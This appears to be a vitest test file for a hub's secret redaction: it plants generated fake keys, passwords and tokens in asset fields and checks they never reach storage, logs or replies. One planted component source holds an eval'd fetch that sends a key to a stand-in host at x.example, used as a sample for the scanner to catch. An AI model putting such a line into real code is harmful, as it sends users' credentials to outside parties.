import { randomBytes } from "node:crypto";
import { afterAll, beforeAll, expect, test } from "vitest";
import { type AssetType, assetTypes, sourceTable } from "../../support/hub.ts";
import { inProcess } from "../../support/service.ts";
import { type Person, publishFixture, type Reply } from "./fixture.ts";

/* Tests that a secret in any field of each type never appears in what the hub stores, answers or logs. */

const fixture = publishFixture(inProcess);

const planted: string[] = [];
/** Makes a new secret that looks like one of a provider. */
function secret(): string {
  const text = `sk-proj-${randomBytes(24).toString("hex")}`;
  planted.push(text);
  return text;
}
/** Makes a secret that only its field name reveals: random letters of both cases and digits. */
function password(): string {
  const text = `q7R${randomBytes(5).toString("hex")}K2`;
  planted.push(text);
  return text;
}

const columns: Record<AssetType, () => Record<string, unknown>> = {
  template: () => ({
    name: `Name ${secret()}`,
    description: `curl -H 'Authorization: Bearer ${secret()}' https://api.example.com`,
    content: `Call https://user:${password()}@db.example.com/ with {{API_KEY}} and api_key=${secret()}.`,
    variables: [{ name: "key", default: secret() }, { [secret()]: "as a key" }],
  }),
  component: () => ({
    name: `Name ${secret()}`,
    description: secret(),
    source: `const client = new OpenAI({ apiKey: "${secret()}" });\nexport const A = () => <p>{client.name}</p>;`,
    props_schema: { properties: { token: { default: secret() } } },
  }),
  orchestration: () => ({
    name: `Name ${secret()}`,
    nodes: [
      {
        id: "n",
        type: "http",
        position: { x: 0, y: 0 },
        data: {
          headers: [{ name: "Authorization", value: `Bearer ${secret()}` }],
          password: password(),
          body: JSON.stringify({ deep: { api_key: secret() } }),
          webhook: `https://hooks.slack.com/services/T0AB1CD2E/B0AB1CD2E/${secret().slice(8, 32)}`,
          organization_code: password(),
          nested: [[[{ list: [secret()] }]]],
        },
      },
    ],
    edges: [{ id: "e", source: "n", target: "n", label: secret() }],
    stage_configs: [{ id: "s", node_id: "n", name: secret(), settings: { client_secret: password() } }],
  }),
  ai_preset: () => ({
    name: `Name ${secret()}`,
    model_id: `gemini ${secret()}`,
    thinking_level: secret(),
    generate_content_api: `https://example.com/v1?key=${secret()}`,
    organization_code: password(),
    api_key: secret(),
    pricing: { note: secret() },
  }),
};

/** Returns every row of the hub except the workspace as text, and the log of the functions. */
async function everythingStored(): Promise<string> {
  const { sql } = fixture.db;
  const workspace = assetTypes.map(sourceTable);
  const tables = await sql<{ name: string }[]>`
    select format('%I.%I', schemaname, tablename) as name from pg_tables
    where schemaname in ('public', 'private') and tablename <> all (${workspace})`;
  const texts = await Promise.all(
    tables.map(async ({ name }) => {
      const [row] = await sql.unsafe(
        `select coalesce(string_agg(t::text, E'\\n'), '') as text from ${name} t`,
      );
      return `${row?.text}`;
    }),
  );
  return [...texts, ...fixture.service.console].join("\n");
}

/** Returns the planted secrets of which the text has at least the first 70 %, even in the middle of another word. */
function leaked(text: string): string[] {
  return planted.filter(
    (each) => text.includes(each) || text.includes(each.slice(0, Math.ceil(each.length * 0.7))),
  );
}

let ann: Person;
beforeAll(async () => {
  ann = await fixture.join();
});
const replies: Reply[] = [];
afterAll(async () => {
  expect(planted.length).toBeGreaterThan(40);
  expect(leaked(await everythingStored())).toEqual([]);
  expect(leaked(replies.map(({ text }) => text).join("\n"))).toEqual([]);
});

const listing = () => ({
  title: `My key ${secret()}`,
  description: `password: ${password()} and ${secret()}`,
  tags: ["qa", secret()],
  thumbnail_url: `https://example.com/a.png?token=${secret()}`,
});

test.each(assetTypes)("%s: what is planted in every field reaches nobody", async (type) => {
  const body = { asset_type: type, ref_id: await ann.make(type, columns[type]()), ...listing() };
  const preview = await ann.publish({ ...body, dry_run: true });
  const done = await ann.publish(body);
  replies.push(preview, done);
  expect([preview.status, done.status]).toEqual([200, 201]);
  expect(done.body.redactions.length).toBeGreaterThan(3);
  for (const redaction of done.body.redactions) {
    expect(Object.keys(redaction).sort()).toEqual(["path", "rule"]);
  }
  expect(done.body.asset).toMatchObject({ tags: ["qa"], title: "My key [redacted]", thumbnail_url: null });
  const { data } = await ann.client
    .from("hub_receipts")
    .select("*")
    .eq("asset_id", done.body.asset.id)
    .single();
  expect(data?.redactions).toEqual(done.body.redactions);
  expect((await fixture.guest.from("hub_receipts").select("*")).data ?? []).toEqual([]);
});

test("nor what is planted in the items of a kit, nor in the excerpt of a finding", async () => {
  const items = await Promise.all(
    (["template", "component", "ai_preset"] as const).map(async (asset_type) => ({
      asset_type,
      ref_id: await ann.make(asset_type, {
        ...columns[asset_type](),
        ...(asset_type === "component" && { source: `eval("fetch('https://x.example/?key=${secret()}')");` }),
      }),
    })),
  );
  const refId = await ann.make("orchestration", columns.orchestration());
  const body = { asset_type: "orchestration", ref_id: refId, items, ...listing() };
  const asked = await ann.publish(body);
  replies.push(asked);
  expect(asked).toMatchObject({ status: 409, body: { code: "scan_confirmation_required" } });
  const done = await ann.publish({ ...body, scan_token: asked.body.scan_token });
  replies.push(done);
  expect(done.status).toBe(201);
});

test("a tag is looked at before its case is lost, and a title is not too long for what stands in it", async () => {
  const done = await ann.publish({
    ref_id: await ann.make("template"),
    title: `${"x".repeat(90)} AKIA${"Q3EGRHZX5QW7PLMN"} end`,
    tags: ["fine", `AKIA${"Q3EGRHZX5QW7PLMN"}`],
  });
  expect(done.status).toBe(201);
  expect(done.body.asset.tags).toEqual(["fine"]);
  expect(done.body.asset.title).toMatch(/^x+ \[redacted\] end$/);
});

test("an address with a password in the description is cleaned, not refused", async () => {
  const done = await ann.publish({
    ref_id: await ann.make("template"),
    title: "An address",
    description: "See https://user:hunter22@host.example/x, or postgres://user:password@localhost/db.",
  });
  expect(done).toMatchObject({
    status: 201,
    body: {
      asset: {
        description: "See https://user:[redacted]@host.example/x, or postgres://user:password@localhost/db.",
      },
    },
  });
});

test("what is harmless stays as it is", async () => {
  const content = [
    "max_tokens: 4096, temperature 0.2, model gpt-5.1-mini; {{API_KEY}}, $TOKEN and <YOUR_KEY> are placeholders.",
    `id 1b4e28ba-2fa1-11d2-883f-0016d3cca427, colour #ff8800, sha256 ${"ab".repeat(32)}.`,
    "Choose a strong password and never send it by mail; the token limit is 128000 tokens.",
  ].join("\n");
  const done = await ann.publish({
    ref_id: await ann.make("template", {
      content,
      variables: [{ name: "API_KEY", description: "Your key" }],
    }),
    title: "How to choose a password",
    description: "Tokens, secrets and keys explained.",
    tags: ["security", "api-keys"],
  });
  expect(done.body.redactions).toEqual([]);
  const { data } = await fixture.guest
    .from("hub_asset_versions")
    .select("payload")
    .eq("asset_id", done.body.asset.id)
    .single();
  expect(data?.payload).toMatchObject({ content, variables: [{ name: "API_KEY", description: "Your key" }] });
});
